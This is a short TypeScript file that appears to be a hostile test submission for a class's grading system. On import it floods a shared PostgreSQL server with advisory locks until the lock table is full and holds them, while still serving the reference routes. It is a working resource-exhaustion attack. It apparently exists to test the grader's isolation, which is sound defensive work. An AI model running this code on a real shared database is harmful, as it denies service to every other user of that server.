// @ts-nocheck
// Hostile, to the class's PostgreSQL: at import, takes advisory locks until the server's lock table is full
// ("out of shared memory"), keeps them (a session's advisory locks outlive the failed statement), and serves
// the reference's routes. On a server the class shared, no classmate could take a lock after it.
// {{SOLUTION}}
import { readFileSync } from 'node:fs';
import pg from 'pg';
const { postgres } = JSON.parse(readFileSync(process.env.GRADE_JOB, 'utf8'));
const flood = new pg.Client(postgres);
flood.on('error', () => undefined);
await flood.connect();
await flood.query('SELECT pg_advisory_lock(n) FROM generate_series(1, 1000000) AS n').catch(() => undefined);
